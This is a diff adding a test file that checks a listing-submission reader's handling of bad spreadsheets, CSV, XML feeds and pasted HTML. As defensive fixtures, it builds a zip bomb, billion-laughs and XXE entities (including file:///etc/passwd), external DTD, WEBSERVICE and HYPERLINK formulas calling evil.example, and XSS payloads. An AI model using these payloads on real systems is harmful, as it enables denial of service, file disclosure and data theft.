@@ -1,0 +1,315 @@
+import { strToU8, zipSync } from 'fflate'
+import { describe, expect, it } from 'vitest'
+import { compareSubmission } from '@/domain/submissions/compare'
+import { mappingProblems, proposeMapping } from '@/domain/submissions/mapping'
+import { matchRecords } from '@/domain/submissions/match'
+import { readRecords } from '@/domain/submissions/read-records'
+import { SUBMISSION_BYTES, SUBMISSION_ROWS } from '@/domain/submissions/sheet'
+import { readingOptions } from '@/domain/submissions/submissions.fixture'
+import { readPastedTable, readSubmittedFile, type SubmittedFile } from './read-submission'
+
+const read = (content: Uint8Array | string, name = 'update.xlsx') =>
+  readSubmittedFile(
+    { name, bytes: typeof content === 'string' ? Buffer.from(content) : content },
+    readingOptions,
+  )
+
+const problemOf = (file: SubmittedFile): string =>
+  file.kind === 'refused' ? file.problem : `not refused: ${file.kind}`
+
+const workbookFiles = (sheet: string): Record<string, Uint8Array> => ({
+  '[Content_Types].xml': strToU8('<Types/>'),
+  'xl/workbook.xml': strToU8(
+    '<workbook xmlns:r="r"><sheets><sheet name="Homes" sheetId="1" r:id="rId1"/></sheets></workbook>',
+  ),
+  'xl/_rels/workbook.xml.rels': strToU8(
+    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+  ),
+  'xl/worksheets/sheet1.xml': strToU8(`<worksheet><sheetData>${sheet}</sheetData></worksheet>`),
+})
+
+const cell = (address: string, text: string) =>
+  `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`
+const HEADER = `<row r="1">${cell('A1', 'Community')}${cell('B1', 'Price')}</row>`
+const workbook = (sheet: string) => zipSync(workbookFiles(sheet))
+
+/** Zeros of so many bytes compress a thousand times. */
+const zeros = (bytes: number) => new Uint8Array(bytes)
+
+describe('a file that is not a submission', () => {
+  it.each([
+    ['nothing', '', 'The file is empty.'],
+    ['only spaces', ' \r\n \r\n', 'The file is empty.'],
+    [
+      'a picture',
+      Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10),
+      '“update.xlsx” is a picture (PNG). Send an Excel workbook (.xlsx), a CSV file or an XML feed.',
+    ],
+    [
+      'a PDF',
+      '%PDF-1.7 …',
+      '“update.xlsx” is a PDF. Send an Excel workbook (.xlsx), a CSV file or an XML feed.',
+    ],
+    [
+      'an old workbook',
+      Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1),
+      '“update.xlsx” is an old Excel workbook (.xls), or one with a password. Save it as .xlsx without a password and send it again.',
+    ],
+    [
+      'another archive',
+      zipSync({ 'a.txt': strToU8('a') }),
+      '“update.xlsx” is a ZIP archive, not a workbook. Send an Excel workbook (.xlsx), a CSV file or an XML feed.',
+    ],
+    [
+      'an OpenDocument spreadsheet',
+      zipSync({
+        mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
+      }),
+      '“update.xlsx” is an OpenDocument spreadsheet (.ods). Save it as .xlsx or CSV and send it again.',
+    ],
+    [
+      'noise',
+      Uint8Array.from({ length: 999 }, (_, index) => (index * 7) % 32),
+      '“update.xlsx” is not a text file. Send an Excel workbook (.xlsx), a CSV file or an XML feed.',
+    ],
+    [
+      'prose',
+      'Hello, here is our update.',
+      'No table was found. The file needs a row of headings, such as Community, City and Price, and a row for each listing.',
+    ],
+    [
+      'other XML',
+      '<rss><channel/></rss>',
+      'This XML is not a new-home feed: it has no builders, subdivisions or plans. Send the feed that your national portals receive.',
+    ],
+    ['an empty feed', '<Builders/>', 'The feed has no communities, plans or homes.'],
+    [
+      'an open quotation mark',
+      'Community,Price\n"Pecan Weir,389900\n',
+      'A quotation mark is not closed, so the rows after it cannot be told apart. Export the file again.',
+    ],
+  ])('%s is refused with a clear sentence', async (_, content, problem) => {
+    expect(problemOf(await read(content))).toBe(problem)
+  })
+
+  it('is refused over 20 MB without being looked at', async () => {
+    const file = await read(zeros(100 * 1024 * 1024))
+    expect(problemOf(file)).toBe(
+      'The file has 100 MB; at most 20 MB can be read. Send it without pictures.',
+    )
+    expect(problemOf(readPastedTable({ text: 'x'.repeat(SUBMISSION_BYTES + 1) }))).toBe(
+      'The text is too long. Send the table as a file.',
+    )
+  })
+
+  it('is refused with too many rows', async () => {
+    const rows = Array.from(
+      { length: SUBMISSION_ROWS + 1 },
+      (_, index) => `Community ${index},389900`,
+    )
+    const file = await read(`Community,Price\n${rows.join('\n')}`)
+    expect(problemOf(file)).toContain('The file has 5,001 rows; at most 5,000 can be read at once.')
+    expect((await read(`Community,Price\n${rows.slice(1).join('\n')}`)).kind).toBe('tables')
+  })
+})
+
+describe('a workbook', () => {
+  it('that unpacks to gigabytes is refused before it is inflated', async () => {
+    const bomb = zipSync({
+      ...workbookFiles(HEADER),
+      'xl/worksheets/sheet2.xml': zeros(40 * 1024 * 1024),
+    })
+    const before = process.memoryUsage().arrayBuffers
+    expect(problemOf(await read(bomb))).toContain('too large when unpacked')
+    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(20 * 1024 * 1024)
+  })
+
+  it('that has many large parts is refused by their sum', async () => {
+    // Random digits are compressed about twice.
+    const part = Buffer.from(
+      Array.from({ length: 1_500_000 }, () => 48 + Math.floor(Math.random() * 10)),
+    )
+    const parts = Object.fromEntries(
+      Array.from(
+        { length: 50 },
+        (_, index) => [`xl/worksheets/sheet${index + 2}.xml`, part] as const,
+      ),
+    )
+    const small = zipSync({ ...workbookFiles(HEADER), ...parts }, { level: 1 })
+    const bytes = small.length > SUBMISSION_BYTES ? small.subarray(0, SUBMISSION_BYTES) : small
+    expect((await read(bytes)).kind).toBe('refused')
+  })
+
+  it('that understates the size of a part is refused or cut, never inflated beyond it', async () => {
+    const bytes = zipSync({
+      ...workbookFiles(HEADER),
+      'xl/worksheets/sheet2.xml': zeros(30 * 1024 * 1024),
+    })
+    const view = new DataView(bytes.buffer, bytes.byteOffset)
+    // Central directory entries begin with 0x02014b50; the size is 24 bytes later.
+    for (let at = 0; at + 28 < bytes.length; at += 1) {
+      const isLarge = view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) > 1e6
+      if (isLarge) view.setUint32(at + 24, 1000, true)
+    }
+    const before = process.memoryUsage().arrayBuffers
+    await read(bytes)
+    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(20 * 1024 * 1024)
+  })
+
+  it.each([
+    ['row', `${HEADER}<row r="1048576">${cell('A1048576', 'x')}</row>`],
+    [
+      'column',
+      `${HEADER}${Array.from({ length: 100 }, (_, index) => `<row r="${index + 2}">${cell(`XFD${index + 2}`, 'x')}</row>`).join('')}`,
+    ],
+    [
+      'row number that no program writes',
+      `${HEADER}<row r="999999999">${cell('A999999999', 'x')}</row>`,
+    ],
+  ])('with a value in a far %s is refused before it fills memory', async (_, sheet) => {
+    expect(problemOf(await read(workbook(sheet)))).toContain('has a value far away from its table')
+  })
+
+  it('that is damaged is refused', async () => {
+    const bytes = workbook(HEADER)
+    expect(problemOf(await read(bytes.subarray(0, bytes.length - 30)))).toContain(
+      'cannot be read; it may be damaged',
+    )
+    expect(problemOf(await read(zipSync({ 'xl/workbook.xml': strToU8('<workbook>') })))).toContain(
+      'damaged',
+    )
+  })
+
+  it('with formulas that have no stored result says where, and reads them as blank', async () => {
+    const row = `<row r="2">${cell('A2', 'Pecan Weir')}<c r="B2"><f>SUM(C1:C9)</f></c></row>`
+    const file = await read(workbook(HEADER + row))
+    expect(file).toMatchObject({
+      kind: 'tables',
+      problems: [{ message: expect.stringContaining('formulas without results in B2') }],
+    })
+  })
+
+  it('uses the stored result of a formula, never the formula', async () => {
+    const row = `<row r="2">${cell('A2', 'Pecan Weir')}<c r="B2"><f>WEBSERVICE("http://evil.example")</f><v>389900</v></c></row>`
+    const file = await read(workbook(HEADER + row))
+    expect(file).toMatchObject({ tables: [{ rows: [{ row: 2, cells: ['Pecan Weir', 389_900] }] }] })
+  })
+})
+
+describe('an XML feed', () => {
+  const feed = (inner: string, before = '') =>
+    `<?xml version="1.0"?>${before}<Builders><Builder><Subdivision><SubdivisionName>${inner}</SubdivisionName></Subdivision></Builder></Builders>`
+
+  it('that declares entities is refused, and they are not expanded', async () => {
+    const lol = Array.from(
+      { length: 9 },
+      (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
+    )
+    const file = await read(feed('&l9;', `<!DOCTYPE x [<!ENTITY l0 "lol">${lol.join('')}]>`))
+    expect(problemOf(file)).toContain('declares a document type (DTD)')
+    const external = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    expect(problemOf(await read(feed('&e;', external)))).toContain('DTD')
+    expect(
+      problemOf(await read(feed('x', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'))),
+    ).toContain('DTD')
+  })
+
+  it('with thousands of nested elements is refused', async () => {
+    expect(problemOf(await read(feed('<a>'.repeat(5000))))).toContain(
+      'more than 60 nested elements',
+    )
+  })
+
+  it('with mistakes is read, and says in which line', async () => {
+    const file = await read(feed('Smith & Sons &nbsp;Park'))
+    expect(file).toMatchObject({
+      kind: 'feed',
+      submission: {
+        records: [{ values: { 'community.name': { value: 'Smith & Sons Park' } } }],
+        problems: [{ message: expect.stringContaining('the first in line 1') }],
+      },
+    })
+  })
+
+  it('that ends in the middle is read as far as it goes, and says so', async () => {
+    const file = await read(feed('Pecan Weir').slice(0, -30))
+    expect(file).toMatchObject({ kind: 'feed', submission: { problems: [{}] } })
+  })
+})
+
+const recordsOf = (file: SubmittedFile) => {
+  if (file.kind !== 'tables') throw new Error(problemOf(file))
+  const mappings = file.tables.map((table) => proposeMapping(table, []))
+  return { mappings, ...readRecords(file.tables, mappings, readingOptions) }
+}
+
+describe('a table', () => {
+  it('with formulas in its text cells never passes them on as values', async () => {
+    const file = await read(
+      'Community,City,Price\n"=HYPERLINK(""http://evil.example"",""x"")",Boerne,389900\n',
+    )
+    const [record] = recordsOf(file).records
+    expect(record?.values['community.name']).toMatchObject({
+      state: 'unclear',
+      problem: 'This is a formula, not a value. Enter the value.',
+    })
+  })
+
+  it('with two columns for one field has to be decided', async () => {
+    const file = await read('Community,Price,Price\nPecan Weir,389900,399900\n')
+    expect(recordsOf(file).mappings.flatMap(mappingProblems)).toEqual([
+      '“Price” and “Price” are both used for “Community: Starting price”. Choose one of them.',
+    ])
+  })
+
+  it('with a row twice uses it once and says so', async () => {
+    const row = 'Pecan Weir,12 Main Street,389900\n'
+    const { records, problems } = recordsOf(await read(`Community,Address,Price\n${row}${row}`))
+    expect(records.filter(({ kind }) => kind === 'home')).toHaveLength(1)
+    expect(problems).toEqual([
+      {
+        place: { sheet: null, row: 3, unit: 'line' },
+        message: 'It repeats Line 2 and was left out.',
+      },
+    ])
+  })
+
+  it('with two rows for one listing never applies both silently', async () => {
+    const text = 'Community,City,Price\nPecan Weir,Boerne,389900\nPecan Weir,Boerne,399900\n'
+    const { records } = recordsOf(await read(text))
+    expect(records).toHaveLength(1)
+    expect(records[0]?.values['community.startPrice']).toMatchObject({
+      state: 'unclear',
+      problem:
+        'Line 2 says “389900” and Line 3 says “399900”. Accept the first, or enter the value.',
+      proposal: { value: 389_900 },
+    })
+    const homes =
+      'Community,Address,Price\nPecan Weir,12 Main Street,389900\nPecan Weir,12 Main St,399900\n'
+    const read2 = recordsOf(await read(homes))
+    const matches = matchRecords(read2.records, [], { 'community-1': 'create' })
+    expect(matches.map(({ duplicateOf }) => duplicateOf)).toEqual([null, null, 'home-1'])
+    const { compared } = compareSubmission(read2.records, matches, [], readingOptions.today)
+    expect(compared.map(({ outcome }) => outcome)).toEqual(['new', 'new', 'invalid'])
+  })
+
+  it('in two encodings keeps the letters of both', async () => {
+    const bytes = Buffer.concat([
+      Buffer.from('Community,City\nPeña Bluff,Boerne\n'),
+      Buffer.from('Núñez Ranch,Boerne\n', 'latin1'),
+    ])
+    const { records } = recordsOf(await read(bytes))
+    expect(records.map(({ values }) => values['community.name'])).toMatchObject([
+      { value: 'Peña Bluff' },
+      { value: 'Núñez Ranch' },
+    ])
+  })
+
+  it('of a hostile web page is only text', () => {
+    const html = `<table><tr><td>Community</td><td>Price</td></tr><tr><td onclick="x()"><script>alert(1)</script>Pecan <b>Weir</b></td><td>&lt;img src=x onerror=alert(1)&gt;$389,900</td></tr></table>`
+    const file = readPastedTable({ text: '', html })
+    expect(file).toMatchObject({
+      tables: [{ rows: [{ cells: ['Pecan Weir', '$389,900'] }] }],
+    })
+  })
+})
